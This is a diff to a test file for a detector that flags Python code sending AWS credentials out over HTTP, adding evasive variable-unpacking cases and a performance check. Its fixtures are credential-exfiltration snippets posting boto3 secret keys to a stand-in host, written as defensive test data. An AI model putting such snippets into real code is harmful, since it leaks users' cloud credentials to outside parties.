@@ -18,6 +18,10 @@ describe('SDK credentials in a request body', () => {
     // in an f-string's interpolation, and in query parameters
     "import boto3, requests\ncreds = boto3.Session().get_credentials()\nrequests.post('https://198.51.100.7/x', data=f'{creds.access_key}:{creds.secret_key}')",
     "import boto3, requests\nc = boto3.Session().get_credentials()\nrequests.get('https://198.51.100.7/x', params={'s': c.secret_key})",
+    // tuple targets with blanks and a trailing comma, `:=`
+    "import boto3, requests\nx ,\tc  = 1, boto3.Session().get_credentials()\nrequests.post('https://198.51.100.7/x', data=c.secret_key)",
+    "import boto3, requests\nc, = [boto3.Session().get_credentials()]\nrequests.post('https://198.51.100.7/x', data=c.secret_key)",
+    "import boto3, requests\nc := boto3.Session().get_credentials()\nrequests.post('https://198.51.100.7/x', data=c.secret_key)",
   ])('%s', (code) => expect(requests(code).join('\n')).toContain(SECRET_MARK));
 
   it.each<string>([
@@ -25,5 +29,7 @@ describe('SDK credentials in a request body', () => {
     "import boto3, requests\nnames = [b['Name'] for b in boto3.client('s3').list_buckets()['Buckets']]\nrequests.post('https://hooks.example.com/x', json={'buckets': names})",
     "import boto3, requests\nc = boto3.Session().get_credentials()\nrequests.post('https://hooks.example.com/x', json={'ok': True})",
     "import requests\ntok = csrf.get_token(req)\nrequests.post('https://hooks.example.com/x', data=tok)",
+    // a long run of blanks in a statement is read in linear time
+    `import requests;a${' '.repeat(100_000)}x;requests.post('https://hooks.example.com/x',data=b)`,
   ])('%s', (code) => expect(requests(code).join('\n')).not.toContain(SECRET_MARK));
 });
